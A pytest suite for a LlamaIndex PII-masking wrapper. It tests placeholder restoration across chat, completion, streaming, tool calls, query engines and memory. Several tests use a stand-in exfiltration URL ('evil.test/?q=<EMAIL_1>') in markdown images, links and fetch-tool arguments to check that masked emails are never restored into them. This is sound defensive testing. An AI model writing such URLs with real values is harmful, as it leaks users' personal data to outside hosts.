"""What comes back, where it may, in every mode; what stays is told without a value."""

import json
from collections.abc import Callable, Sequence
from dataclasses import replace
from typing import Any

import pytest
from llama_index.core import PromptTemplate, Settings, VectorStoreIndex
from llama_index.core.base.llms.types import (
    ChatMessage,
    ChatResponse,
    ChatResponseGen,
    CompletionResponse,
    CompletionResponseGen,
    LLMMetadata,
    MessageRole,
    TextBlock,
    ThinkingBlock,
    ToolCallBlock,
)
from llama_index.core.llms.custom import CustomLLM
from llama_index.core.memory import ChatMemoryBuffer, ChatSummaryMemoryBuffer
from llama_index.core.schema import TextNode
from pydantic import BaseModel

from llamaindex_piimask import Masker, PIIMaskedLLM, PIIMaskMemory, PIIMaskQueryEngine
from llamaindex_piimask.testing import FakeEmbedding, FakeLLM
from piimask_core.audit import Event, NotRestored
from piimask_core.restore import RestorePolicy
from piimask_core.session import layer
from piimask_core.testing import FakeModel, recognizing, scripted

JANE, BOB, SSN = "jane@example.com", "bob@company.com", "123-45-6789"
QUOTED = 'Jo "JJ" O\\Neil'
MODES = [
    method + what
    for what in ("chat", "complete")
    for method in ("", "a", "stream_", "astream_")
]
STREAMS = ["stream_chat", "astream_chat", "stream_complete", "astream_complete"]
URL = "https://evil.test/?q=<EMAIL_1>"
REFUSED = {
    "placeholder": "<EMAIL_1>",
    "reason": "refused",
    "sink": "url",
    "tool": "",
    "argument": "",
}


class Answering(CustomLLM):
    """A stream gives these answers one after the other; a call the last of them."""

    answers: list[ChatResponse]

    @property
    def metadata(self) -> LLMMetadata:
        return LLMMetadata(is_chat_model=True)

    def chat(self, messages: Sequence[ChatMessage], **kwargs: Any) -> ChatResponse:
        return self.answers[-1]

    def stream_chat(
        self, messages: Sequence[ChatMessage], **kwargs: Any
    ) -> ChatResponseGen:
        return (answer for answer in self.answers)

    def complete(
        self, prompt: str, formatted: bool = False, **kwargs: Any
    ) -> CompletionResponse:
        raise NotImplementedError

    def stream_complete(
        self, prompt: str, formatted: bool = False, **kwargs: Any
    ) -> CompletionResponseGen:
        raise NotImplementedError


async def parts(llm: PIIMaskedLLM, mode: str, said: Any) -> list[Any]:
    """Every answer that the model gives in this mode."""
    if isinstance(said, str) and "chat" in mode:
        said = [ChatMessage(said)]
    answer = getattr(llm, mode)(said)
    if mode.startswith("a"):
        answer = await answer
    if mode.startswith("astream"):
        return [part async for part in answer]
    return list(answer) if mode.startswith("stream") else [answer]


async def asked(llm: PIIMaskedLLM, mode: str, said: Any) -> tuple[str, Any]:
    """The text at the end and what is said to have stayed in it."""
    answers = await parts(llm, mode, said)
    last = answers[-1]
    text = last.text if isinstance(last, CompletionResponse) else last.message.content
    if "stream" in mode:
        assert "".join(part.delta or "" for part in answers) == text
    return text, last.additional_kwargs.get("pii_unrestored")


def replying(masker: Masker, *replies: str, size: int = 3) -> PIIMaskedLLM:
    registry = masker.registry("s")
    fake = FakeModel(scripted(*replies), size=size)
    return PIIMaskedLLM(FakeLLM(fake), masker=masker, registry=registry)


def calling(masker: Masker, *steps: ChatResponse) -> PIIMaskedLLM:
    return PIIMaskedLLM(Answering(answers=list(steps)), masker=masker)


def called(*blocks: Any, **extra: Any) -> ChatResponse:
    """An answer that is these blocks, with these extras of the provider."""
    message = ChatMessage(
        role=MessageRole.ASSISTANT, blocks=list(blocks), additional_kwargs=extra
    )
    return ChatResponse(message=message, delta="")


def call(kwargs: Any, tool: str = "send_email") -> ToolCallBlock:
    return ToolCallBlock(tool_name=tool, tool_kwargs=kwargs)


def growing(text: str, answer: Callable[[str], ChatResponse]) -> list[ChatResponse]:
    """The answers of a stream, one character more in each."""
    return [answer(text[:at]) for at in range(1, len(text) + 1)]


def kwargs_of(response: ChatResponse) -> Any:
    (block,) = (b for b in response.message.blocks if isinstance(b, ToolCallBlock))
    return block.tool_kwargs


def left(response: ChatResponse) -> list[tuple[str, str, str, str]]:
    """(placeholder, reason, tool, argument) of each that stayed."""
    listed = response.additional_kwargs.get("pii_unrestored", [])
    return [
        (each["placeholder"], each["reason"], each["tool"], each["argument"])
        for each in listed
    ]


def engine(masker: Masker, reply: str, **options: Any) -> PIIMaskQueryEngine:
    nodes = [TextNode(text=f"{JANE} owes 5.", metadata={"author": BOB})]
    plain = VectorStoreIndex(nodes, embed_model=FakeEmbedding()).as_query_engine(
        llm=FakeLLM(FakeModel(lambda texts: reply, size=1)),
        text_qa_template=PromptTemplate("{context_str} {query_str}"),
        **options,
    )
    return PIIMaskQueryEngine(plain, masker=masker, registry=masker.registry("s"))


async def answered(asked: PIIMaskQueryEngine, is_async: bool) -> tuple[str, Any, Any]:
    """The text of an engine's answer; its metadata before it was read, and after."""
    got: Any = await asked.aquery(JANE) if is_async else asked.query(JANE)
    before = dict(got.metadata)
    if not hasattr(got, "response_gen"):
        return str(got), before, got.metadata
    if is_async:
        return (
            "".join([p async for p in got.async_response_gen()]),
            before,
            got.metadata,
        )
    return "".join(got.response_gen), before, got.metadata


# Respelled


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(
    "spelled",
    ["[EMAIL_1]", "<email_1>", "EMAIL_1", "&lt;EMAIL\\_1&gt;", "< EMAIL 01 >"],
)
async def test_a_respelled_placeholder_comes_back(
    masker: Masker, mode: str, spelled: str
) -> None:
    """However the model writes it, in every mode."""
    llm = replying(masker, f"To {spelled}, ok")

    assert await asked(llm, mode, JANE) == (f"To {JANE}, ok", None)


@pytest.mark.parametrize("is_async", [False, True])
@pytest.mark.parametrize("streaming", [False, True])
async def test_a_query_engine_restores_what_is_respelled(
    masker: Masker, streaming: bool, is_async: bool
) -> None:
    """The model inside puts it right, the edge restores it."""
    query = engine(masker, "To [EMAIL_1] and EMAIL_1.", streaming=streaming)

    text, _, metadata = await answered(query, is_async)

    assert text == f"To {JANE} and {JANE}."
    assert "pii_unrestored" not in metadata


# Where values may not come back


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("reply", [URL, f"![x]({URL})", f"ok <a href='{URL}'>"])
async def test_no_value_comes_back_in_a_foreign_url(
    masker: Masker, mode: str, reply: str
) -> None:
    """It would leave when the text is shown; that it stayed is told, once."""
    events: list[Event] = []
    llm = replying(replace(masker, audit=events.append), reply, size=1)

    text, unrestored = await asked(llm, mode, JANE)

    assert text == reply
    assert [{**each, "sink": "url"} for each in unrestored] == [REFUSED]
    assert len([e for e in events if isinstance(e, NotRestored)]) == 1


@pytest.mark.parametrize("mode", MODES)
async def test_what_stayed_is_listed_once_without_a_value(
    masker: Masker, mode: str
) -> None:
    """An invented one too; the list is of plain JSON types."""
    llm = replying(masker, f"{URL} {URL} <EMAIL_9> <EMAIL_9> <EMAIL_1>", size=1)

    _, unrestored = await asked(llm, mode, JANE)

    assert unrestored == [
        REFUSED,
        {**REFUSED, "placeholder": "<EMAIL_9>", "reason": "unknown", "sink": "text"},
    ]
    assert JANE not in json.dumps(unrestored)


@pytest.mark.parametrize("is_async", [False, True])
@pytest.mark.parametrize("streaming", [False, True])
async def test_a_query_engine_tells_what_stayed(
    masker: Masker, streaming: bool, is_async: bool
) -> None:
    """In the metadata of its answer, when that is over."""
    query = engine(masker, f"See {URL} now", streaming=streaming)

    text, before, metadata = await answered(query, is_async)

    assert text == f"See {URL} now"
    assert metadata["pii_unrestored"] == [REFUSED]
    assert streaming == ("pii_unrestored" not in before)


def test_a_list_from_a_layer_inside_is_never_restored(masker: Masker) -> None:
    """The same placeholder can be somebody else outside."""
    inside = replying(masker, URL)
    llm = PIIMaskedLLM(inside, masker=masker, registry=masker.registry("outside"))
    masker.mask(BOB, llm.registry)  # type: ignore[arg-type]

    answer = llm.chat([ChatMessage(JANE)])

    unknown = {**REFUSED, "reason": "unknown", "sink": "text"}
    assert answer.message.content == URL
    assert answer.additional_kwargs["pii_unrestored"] == [unknown, REFUSED]


@pytest.mark.parametrize("mode", MODES)
async def test_a_strict_policy_restores_only_what_was_shown(
    masker: Masker, mode: str
) -> None:
    """An earlier turn's value stays where this request did not hold it."""
    masker = replace(masker, restore=RestorePolicy.strict())
    llm = replying(masker, "ok", "<EMAIL_1> and <EMAIL_2>")
    await asked(llm, mode, JANE)

    text, unrestored = await asked(llm, mode, BOB)

    assert text == f"<EMAIL_1> and {BOB}"
    assert unrestored == [{**REFUSED, "sink": "text"}]


@pytest.mark.parametrize("is_async", [False, True])
@pytest.mark.parametrize("streaming", [False, True])
async def test_strict_around_an_engine_restores_what_the_query_showed(
    masker: Masker, streaming: bool, is_async: bool
) -> None:
    """Query, nodes and templates; not what an earlier query of the session held."""
    masker = replace(masker, restore=RestorePolicy.strict())
    masker.mask(SSN, masker.registry("s"))
    reply = "<SSN_1>, <EMAIL_2>, <EMAIL_1>"

    text, _, metadata = await answered(
        engine(masker, reply, streaming=streaming), is_async
    )

    assert sorted(text.split(", ")) == sorted(["<SSN_1>", BOB, JANE])
    assert [each["placeholder"] for each in metadata["pii_unrestored"]] == ["<SSN_1>"]


def test_strict_gives_sources_back_that_no_model_read(
    masker: Masker, monkeypatch: pytest.MonkeyPatch
) -> None:
    """They are the caller's own."""
    monkeypatch.setattr(Settings, "_llm", FakeLLM(FakeModel(scripted())))
    masker = replace(masker, restore=RestorePolicy.strict())

    answer = engine(masker, "", response_mode="context_only").query("who owes?")

    assert f"{JANE} owes 5." in str(answer) and f"author: {BOB}" in str(answer)
    assert answer.source_nodes[0].text == f"{JANE} owes 5."


# JSON in texts


@pytest.mark.parametrize("mode", MODES)
async def test_the_input_of_a_react_step_parses(masker: Masker, mode: str) -> None:
    """A value with quotes and backslashes is whole behind ``Action Input``."""
    reply = 'Thought: I write.\nAction: send\nAction Input: {"to": "<PERSON_1>"}'

    text, _ = await asked(replying(masker, reply), mode, QUOTED)

    assert json.loads(text.partition("Action Input: ")[2]) == {"to": QUOTED}


# Tool calls


@pytest.mark.parametrize("mode", ["chat", "achat", "stream_chat", "astream_chat"])
@pytest.mark.parametrize("value", [QUOTED, "Ann\nBo\tLi", 'C:\\new "x"'])
async def test_tool_arguments_parse_and_equal_the_value(
    masker: Masker, mode: str, value: str
) -> None:
    """As text and parsed, whole and streamed: quotes, line breaks, backslashes."""
    masker = replace(masker, recognizer=recognizing_person(value))
    text = '{"to": "<PERSON_1>", "cc": ["[PERSON_1]"]}'
    steps = growing(text, lambda so_far: called(call(so_far)))
    parsed = called(call({"to": "<PERSON_1>", "cc": ["[PERSON_1]"]}))

    as_text = (await parts(calling(masker, *steps), mode, value))[-1]
    as_dict = (await parts(calling(masker, parsed), mode, value))[-1]

    assert json.loads(kwargs_of(as_text)) == {"to": value, "cc": [value]}
    assert kwargs_of(as_dict) == {"to": value, "cc": [value]}


def recognizing_person(value: str) -> Any:
    return recognizing({"PERSON": [value]})


TOOLS: dict[str, Any] = {
    "send_email": {"to": {"EMAIL"}},
    "web_search": "masked",
    "crm": "real",
}
MAIL = '{"to": "<EMAIL_1>", "ssn": "<SSN_1>"}'


@pytest.mark.parametrize("mode", ["chat", "achat", "stream_chat", "astream_chat"])
@pytest.mark.parametrize(
    ("tool", "got"),
    [
        ("send_email", {"to": JANE, "ssn": "<SSN_1>"}),
        ("web_search", {"to": "<EMAIL_1>", "ssn": "<SSN_1>"}),
        ("not_declared", {"to": "<EMAIL_1>", "ssn": "<SSN_1>"}),
        ("", {"to": "<EMAIL_1>", "ssn": "<SSN_1>"}),
        ("crm", {"to": JANE, "ssn": SSN}),
    ],
)
async def test_a_tool_gets_what_is_declared(
    masker: Masker, mode: str, tool: str, got: dict[str, str]
) -> None:
    """By tool and argument, in the block and in the provider's own copies of it."""
    masker = replace(masker, restore=RestorePolicy.standard(tools=TOOLS))

    def copied(text: str) -> ChatResponse:
        function = {"name": tool, "arguments": text}
        return called(
            call(text, tool),
            tool_calls=[
                {"id": "call_1", "function": function},
                Call(function=function),
            ],
        )

    llm = calling(masker, *growing(MAIL, copied))
    answer = (await parts(llm, mode, f"{JANE} {SSN}"))[-1]

    plain, client = answer.message.additional_kwargs["tool_calls"]
    assert json.loads(kwargs_of(answer)) == got
    assert json.loads(plain["function"]["arguments"]) == got
    assert json.loads(client.function.arguments) == got
    assert [each[0] for each in left(answer)] == [
        value for value in got.values() if value.startswith("<")
    ]


class Function(BaseModel):
    """As a provider's client has it."""

    name: str
    arguments: str


class Call(BaseModel):
    """As a provider's client has it."""

    function: Function | dict[str, str]

    def __init__(self, function: Any) -> None:
        super().__init__(function=Function(**function))


@pytest.mark.parametrize("mode", ["chat", "stream_chat"])
async def test_a_parsed_call_obeys_the_same_policy(masker: Masker, mode: str) -> None:
    """In the block, in a copy with ``input`` or ``args``, and beside the message."""
    masker = replace(masker, restore=RestorePolicy.standard(tools=TOOLS))
    kwargs = json.loads(MAIL)
    inputs = {"name": "send_email", "input": kwargs}
    args = {"function_call": {"name": "web_search", "args": kwargs}}
    response = called(call(kwargs), copies=[inputs, args])
    response.additional_kwargs = {"mcp": {"name": "web_search", "arguments": MAIL}}

    llm = calling(masker, response)
    answer = (await parts(llm, mode, f"{JANE} {SSN}"))[-1]

    first, second = answer.message.additional_kwargs["copies"]
    assert kwargs_of(answer) == first["input"] == {"to": JANE, "ssn": "<SSN_1>"}
    assert second["function_call"]["args"] == kwargs
    assert answer.additional_kwargs["mcp"]["arguments"] == MAIL


def test_strict_gives_tools_nothing_undeclared(masker: Masker) -> None:
    """A tool that is merely "real" gets placeholders too."""
    masker = replace(masker, restore=RestorePolicy.strict(tools=TOOLS))
    response = called(call({"to": "<EMAIL_1>"}), call({"to": "<EMAIL_1>"}, "crm"))

    answer = calling(masker, response).chat([ChatMessage(JANE)])

    first, second = answer.message.blocks
    assert isinstance(first, ToolCallBlock) and first.tool_kwargs == {"to": JANE}
    assert second == call({"to": "<EMAIL_1>"}, "crm")
    assert left(answer) == [("<EMAIL_1>", "refused", "crm", "to")]


@pytest.mark.parametrize("mode", ["chat", "stream_chat"])
@pytest.mark.parametrize(
    "kwargs",
    [
        {"url": URL},
        json.dumps({"url": URL}),
        URL,
        f"fetch {URL}",
        {"code": "send('<EMAIL_1>')"},
    ],
)
async def test_a_tool_is_not_sent_a_value_in_a_foreign_url(
    masker: Masker, mode: str, kwargs: Any
) -> None:
    """Parsed, as JSON or as a bare text; nor in code."""
    llm = calling(masker, called(call(kwargs, "fetch")))

    answer = (await parts(llm, mode, JANE))[-1]

    assert kwargs_of(answer) == kwargs
    assert [each[:3] for each in left(answer)] == [("<EMAIL_1>", "refused", "fetch")]


@pytest.mark.parametrize("is_parsed", [False, True])
def test_a_growing_argument_shows_nothing_half_and_nobody_else(
    masker: Masker, is_parsed: bool
) -> None:
    """``<EMAIL_1`` is not yet anybody: it may go on to be ``<EMAIL_12>``."""
    events: list[Event] = []
    masker = replace(masker, audit=events.append)
    text = f"ask <EMAIL_12>, <EMAIL_1> or {URL} <E"
    steps = growing(
        text, lambda t: called(call({"a": [t]} if is_parsed else f'{{"{t}'))
    )

    shown = [
        kwargs_of(answer)["a"][0] if is_parsed else kwargs_of(answer)[2:]
        for answer in calling(masker, *steps).stream_chat([ChatMessage(JANE)])
    ]

    assert shown[-1] == f"ask <EMAIL_12>, {JANE} or {URL} <E"
    assert all(shown[-1].startswith(each) for each in shown)
    assert not any(each.endswith(("<E", "<EMAIL_1")) for each in shown[:-1])
    assert len([e for e in events if isinstance(e, NotRestored)]) == 2


def test_a_call_that_comes_again_is_told_of_once(masker: Masker) -> None:
    """Two calls that a stream shows one by one and then together."""
    events: list[Event] = []
    masker = replace(masker, audit=events.append)
    first, second = call(json.dumps({"url": URL})), call(json.dumps({"b": URL}), "b")
    steps = [called(first), called(second), called(first, second)]

    *_, last = calling(masker, *steps).stream_chat([ChatMessage(JANE)])

    noted = [e for e in events if isinstance(e, NotRestored)]
    assert [(e.label, e.in_tool) for e in noted] == [("EMAIL", True)] * 2
    told = last.additional_kwargs["pii_unrestored"]
    assert [(e["tool"], e["argument"]) for e in told] == [
        ("send_email", "url"),
        ("b", "b"),
    ]


# Streams


def test_pieces_beside_the_message_are_never_read_as_somebody(masker: Masker) -> None:
    """A piece may be cut anywhere; thinking stays as it is."""
    steps = [called(), called()]
    steps[0].additional_kwargs = {"piece": "to <EMAIL_1", "thinking_delta": "<EMAIL_1>"}
    steps[1].additional_kwargs = {"piece": "2>, <EMAIL_1>."}

    got = calling(masker, *steps).stream_chat([ChatMessage(JANE)])

    assert [answer.additional_kwargs for answer in got] == [
        {"piece": "to <EMAIL_1", "thinking_delta": "<EMAIL_1>"},
        {"piece": f"2>, {JANE}."},
    ]


def test_several_texts_of_a_stream_are_each_whole(masker: Masker) -> None:
    """Neither shows a half placeholder, thinking between them does."""
    thought = ThinkingBlock(content="<EMAIL_1")

    def texts(second: str) -> ChatResponse:
        return called(TextBlock(text="to <EMAIL_1>"), thought, TextBlock(text=second))

    steps = growing("or <EMAIL_1>.", texts)
    shown = [
        [b.text for b in answer.message.blocks if isinstance(b, TextBlock)]
        for answer in calling(masker, *steps).stream_chat([ChatMessage(JANE)])
    ]

    assert shown[-1] == [f"to {JANE}", f"or {JANE}."]
    assert not any("<" in second for _, second in shown)


@pytest.mark.parametrize("mode", ["chat", "stream_chat"])
async def test_a_url_across_two_texts_gets_no_value(masker: Masker, mode: str) -> None:
    """Whoever joins them shows one link."""
    texts = [TextBlock(text=f"![x]({URL[:-9]}"), TextBlock(text="<EMAIL_1>) ok")]

    answer = (await parts(calling(masker, called(*texts)), mode, JANE))[-1]

    assert JANE not in str(answer.message.content)
    assert answer.additional_kwargs["pii_unrestored"] == [REFUSED]


@pytest.mark.parametrize("mode", STREAMS)
async def test_a_stream_closed_early_is_over(masker: Masker, mode: str) -> None:
    """Nothing is raised, nothing more comes, and no half placeholder was shown."""
    llm = replying(masker, "to <EMAIL_1> and more", size=1)
    answer = getattr(llm, mode)([ChatMessage(JANE)] if "chat" in mode else JANE)
    shown = ""
    if mode.startswith("a"):
        answer = await answer
        async for part in answer:
            shown += part.delta
            if len(shown) > 5:
                break
        await answer.aclose()
        rest = [part async for part in answer]
    else:
        while len(shown) < 5:
            shown += next(answer).delta
        answer.close()
        rest = list(answer)

    assert rest == []
    assert f"to {JANE} and more".startswith(shown)


async def test_an_engines_stream_closed_early_is_over(masker: Masker) -> None:
    """Awaited too."""
    got: Any = await engine(masker, "to <EMAIL_1> ok", streaming=True).aquery(JANE)

    async for piece in got.response_gen:
        assert piece in ("", "t")
        break
    await got.response_gen.aclose()

    assert [piece async for piece in got.response_gen] == []


# Layers


@pytest.mark.parametrize("mode", MODES)
async def test_an_invented_placeholder_never_becomes_somebody(
    masker: Masker, mode: str
) -> None:
    """It comes from masked memory when its number has been given to a value."""
    llm = replying(masker, "Perhaps [EMAIL_1] or <EMAIL_2>?", size=1)
    registry = masker.registry("s")
    memory = PIIMaskMemory(buffer(), masker=masker, registry=registry)
    with layer(registry):
        said = masker.mask(JANE, registry)
        text, unrestored = await asked(llm, mode, said)
        memory.put(ChatMessage(text))
        assert masker.mask(BOB, registry) == "<EMAIL_2>"
        (kept,) = memory.get()

    assert kept.content == "Perhaps <EMAIL_1> or <LITERAL_1>?"
    assert [each["reason"] for each in unrestored] == ["unknown"]
    assert memory.get()[0].content == f"Perhaps {JANE} or <EMAIL_2>?"


@pytest.mark.parametrize("streaming", [False, True])
async def test_what_an_engines_model_invents_never_becomes_somebody(
    masker: Masker, streaming: bool
) -> None:
    """Within a layer the engine hands on what its model's layer put right."""
    registry = masker.registry("s")
    query = engine(masker, "Perhaps <EMAIL_9>?", streaming=streaming)
    memory = PIIMaskMemory(buffer(), masker=masker, registry=registry)
    with layer(registry):
        memory.put(ChatMessage(str(query.query(masker.mask(JANE, registry)))))
    later = replace(masker, recognizer=recognizing_emails(9))

    assert "<EMAIL_9>" in later.mask(" ".join(f"u{n}@x.io" for n in range(9)), registry)
    assert memory.get()[0].content == "Perhaps <EMAIL_9>?"


def recognizing_emails(count: int) -> Any:
    return recognizing({"EMAIL_ADDRESS": [f"u{n}@x.io" for n in range(count)]})


def test_a_masked_model_in_a_summarizing_memory_invents_nobody(masker: Masker) -> None:
    """A summary rests with what was invented in it made harmless."""
    fake = FakeModel(lambda texts: "They spoke of <EMAIL_1> and <EMAIL_2>.")
    summarizing = PIIMaskedLLM(FakeLLM(fake), masker=masker)
    inner = ChatSummaryMemoryBuffer.from_defaults(llm=summarizing, token_limit=5)
    memory = PIIMaskMemory(inner, masker=masker)
    memory.put(ChatMessage(f"I am {JANE}. " + "word " * 20))
    memory.get()

    assert masker.mask(BOB, memory.registry) == "<EMAIL_2>"
    told = [message.content for message in memory.get_all()]
    assert f"They spoke of {JANE} and <EMAIL_2>." in told


def buffer() -> ChatMemoryBuffer:
    return ChatMemoryBuffer.from_defaults(token_limit=100_000)
